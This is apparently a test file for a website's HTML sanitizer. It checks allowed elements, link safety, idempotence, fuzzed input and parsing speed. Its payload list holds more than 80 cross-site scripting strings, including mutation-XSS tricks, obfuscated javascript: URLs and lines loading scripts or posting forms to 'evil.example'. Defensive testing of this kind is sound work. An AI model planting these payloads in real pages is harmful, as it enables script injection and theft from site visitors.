import { describe, expect, it } from '@rstest/core'
import fc from 'fast-check'
import { picturesIn, plainText, richText } from '../../server/content/site-text/rich-text'
import { expectQuick } from '../harness/thread-time'

const picture = '/media/01900000-0000-7000-8000-0000000000aa/1600.webp'

// In a browser's window, by the file's extension: whether a text is harmless depends on how a browser parses it.

const elements = new Set(
  'P H2 H3 H4 UL OL LI STRONG EM U S A BLOCKQUOTE BR HR IMG TABLE THEAD TBODY TR TH TD CODE PRE'.split(' '),
)
const attributes: Record<string, readonly string[]> = {
  A: ['href', 'target', 'rel'],
  IMG: ['src', 'alt', 'width', 'height'],
  TH: ['colspan', 'rowspan'],
  TD: ['colspan', 'rowspan'],
}

/** What a browser must not find in it: foreign elements, attributes, addresses, comments. */
function dangers(html: string): string[] {
  const document = new DOMParser().parseFromString(`<body><main>${html}</main></body>`, 'text/html')
  const found: string[] = []
  const walker = document.createTreeWalker(document, NodeFilter.SHOW_ELEMENT | NodeFilter.SHOW_COMMENT)
  while (walker.nextNode()) {
    const node = walker.currentNode
    if (!isElement(node)) found.push(`comment ${node.nodeValue}`)
    else if (['HTML', 'HEAD', 'BODY', 'MAIN'].includes(node.tagName))
      found.push(...[...node.attributes].map(({ name }) => name))
    else found.push(...dangersOf(node))
  }
  // An element that escapes from its container would be a sibling of it.
  if (document.body.children.length !== 1) found.push('it left its place')
  return found
}

const isElement = (node: Node): node is Element => node.nodeType === 1

function dangersOf(element: Element): string[] {
  const { tagName } = element
  const isOurs = elements.has(tagName) && element.namespaceURI === 'http://www.w3.org/1999/xhtml'
  const names = [...element.attributes].map(({ name }) => name)
  const foreign = names.filter((name) => !attributes[tagName]?.includes(name))
  return [
    ...(isOurs ? [] : [`<${tagName}>`]),
    ...foreign.map((name) => `${tagName} ${name}`),
    ...(element instanceof HTMLAnchorElement ? linkDangers(element) : []),
    ...(tagName === 'IMG' && element.getAttribute('src') !== picture ? ['a picture that is not ours'] : []),
  ]
}

function linkDangers(link: HTMLAnchorElement): string[] {
  if (!link.hasAttribute('href')) return []
  const isHome = link.origin === location.origin
  const isAllowed = ['http:', 'https:', 'mailto:', 'tel:'].includes(link.protocol)
  const opens = /^https?:/.test(link.protocol) && !isHome
  const isGuarded = link.target === '_blank' && link.rel === 'noopener noreferrer'
  return [
    ...(isAllowed ? [] : [`a link by ${link.protocol}`]),
    ...(opens && !isGuarded ? ['a link that hands over the window'] : []),
    ...(link.getAttribute('href')?.startsWith('/') && !isHome ? [`a path that leads to ${link.host}`] : []),
  ]
}

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script',
  '<img src=x onerror=alert(1)>',
  `<img src="${picture}" onerror="alert(1)" onload=alert(1) srcset="//evil.example/x 2x">`,
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="//evil.example/media/01900000-0000-7000-8000-0000000000aa/1600.webp">',
  '<img src="/media/../api/v1/session">',
  '<img src=`x`onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="https:\\\\evil.example">x</a>',
  '<a href="blob:http://localhost/1">x</a>',
  '<a href="https://a.cn" target="_self" rel="opener" onclick="alert(1)" ping="//evil.example">x</a>',
  '<a href="/prices" style="position:fixed;inset:0" class="cover" id="main" name="body">x</a>',
  '<p style="background:url(javascript:alert(1));width:expression(alert(1))">x</p>',
  '<p onmouseover=alert(1) contenteditable autofocus tabindex=1 is="x-y">x</p>',
  '<p/onclick=alert(1)//>x</p>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<object data="data:text/html,x"><embed src="x.swf"></object>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/"><a href="/x">x</a>',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"; * { display: none }</style>',
  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio autoplay src="//evil.example/x"></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)><html manifest=x>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '</main></body><script>alert(1)</script>',
  '</main><p>x</p>',
  '<p title="</p><script>alert(1)</script>">x',
  '<table background="javascript:alert(1)"><td background="x" colspan="99999" rowspan=\'1" onx="\'>x',
  '<table><tr><td><script>alert(1)</script>',
  '<x-y onclick=alert(1)>x</x-y>',
  '<select><option><script>alert(1)</script></option></select>',
  '<input onfocus=alert(1) autofocus>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>',
  '<<p>script>alert(1)<</p>/script>',
  '<a href="https://a.cn/&quot;onclick=&quot;alert(1)">x</a>',
  "<a href='https://a.cn/\"><script>alert(1)</script>'>x</a>",
  `<img src="${picture}" alt='"><script>alert(1)</script>' width="1 onload=alert(1)">`,
  '<p id=x></p><a id=attributes name=innerHTML>clobbering</a>',
  `${'<ul><li>'.repeat(600)}<script>alert(1)</script>`,
  `<p>${'<'.repeat(5_000)}script>alert(1)`,
  '<plaintext><script>alert(1)</script>',
  '\0<\0script>alert(1)</script>',
]

describe('rich text', () => {
  it.each(payloads)('is harmless however it came: %s', (payload) => {
    const kept = richText(payload)
    expect(dangers(kept)).toEqual([])
    expect(richText(kept)).toBe(kept)
  })

  it('is held to it by a judge who knows what is harmful', () => {
    const reported = payloads.filter((payload) => dangers(payload).length > 0)
    // The others are harmless unchanged: text that looks like markup.
    expect(payloads.length - reported.length).toBeLessThan(8)
    expect(payloads.length).toBeGreaterThanOrEqual(80)
  })

  it('is harmless and settled whatever is put together', () => {
    const parts = [
      '<',
      '>',
      '"',
      "'",
      '/',
      '=',
      ' ',
      'p',
      'a',
      'img',
      'svg',
      'math',
      'style',
      'script',
      'table',
      'td',
      'title',
      'href',
      'onerror',
      'javascript:',
      '<!--',
      '-->',
      '</',
      '&lt;',
      '&',
      ';',
      'x',
      '\t',
      picture,
    ]
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.constantFrom(...parts), fc.constantFrom(...payloads)), { maxLength: 30 }),
        (list) => {
          const kept = richText(list.join(''))
          expect(dangers(kept)).toEqual([])
          expect(richText(kept)).toBe(kept)
        },
      ),
      { numRuns: 200 },
    )
  })

  it('that a dropped element leaves badly nested is settled at once', () => {
    const kept = richText('<p>x<iframe srcdoc="y"></main><p>x</p>')
    expect(kept).toBe('<p>x</p><p>x</p><p></p>')
    expect(richText(kept)).toBe(kept)
  })

  it('that an editor writes stays as it is', () => {
    const text =
      '<h2>关于我们</h2><h3>二</h3><h4>三</h4><p>一<strong>粗</strong><em>斜</em><u>线</u><s>删</s><code>x &lt; y &amp;&amp; z</code><br>二</p>' +
      '<ul><li><p>甲</p></li></ul><ol><li><p>乙</p></li></ol><blockquote><p>引</p></blockquote><pre><code>a\n  b</code></pre><hr>' +
      `<p><a href="/prices?from=1#top">价格</a><a href="https://a.cn/?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">站外</a><a href="mailto:a@b.cn">信</a><a href="tel:021-62881618">电话</a></p>` +
      `<p><img src="${picture}" alt="场馆“一”" width="800" height="500"></p>` +
      '<table><thead><tr><th colspan="2">头</th></tr></thead><tbody><tr><td rowspan="2">甲</td><td>乙</td></tr></tbody></table>'
    expect(richText(text)).toBe(text)
  })

  it.each([
    ['<h1>大</h1><h6>小</h6>', '<h2>大</h2><h4>小</h4>'],
    ['<b>粗</b><i>斜</i><del>删</del>', '<strong>粗</strong><em>斜</em><s>删</s>'],
    ['<div class="x"><span style="color:red">字</span></div>', '字'],
    ['<p>没有结束', '<p>没有结束</p>'],
    [
      '<a href="HTTPS://a.cn">x</a>',
      '<a href="HTTPS://a.cn" target="_blank" rel="noopener noreferrer">x</a>',
    ],
    ['<a href="prices.html">x</a>', '<a>x</a>'],
    ['<td colspan="x">x</td>', '<td>x</td>'],
    ['', ''],
  ])('keeps of %s what it may', (given, kept) => {
    expect(richText(given)).toBe(kept)
  })

  it('is read quickly, also when somebody wants it not to be', async () => {
    const shapes = [
      '<p>'.repeat(6_000),
      '<a href="'.repeat(2_000),
      '&'.repeat(20_000),
      '<!--'.repeat(5_000),
      `<p ${'a="" '.repeat(4_000)}>`,
      '{{ '.repeat(6_000),
    ]
    for (const shape of shapes)
      await expectQuick(1_000, () => {
        richText(shape)
        plainText(richText(shape))
      })
  })

  it('tells its words, and its pictures', () => {
    expect(plainText('<h2>甲 &amp; 乙</h2><p>x &lt; y<br>z&quot;</p>').trim()).toBe('甲 & 乙\nx < y\nz"')
    expect(picturesIn(`<p><img src="${picture}" alt=""><img src="${picture}"></p>`)).toEqual([
      '01900000-0000-7000-8000-0000000000aa',
    ])
  })
})
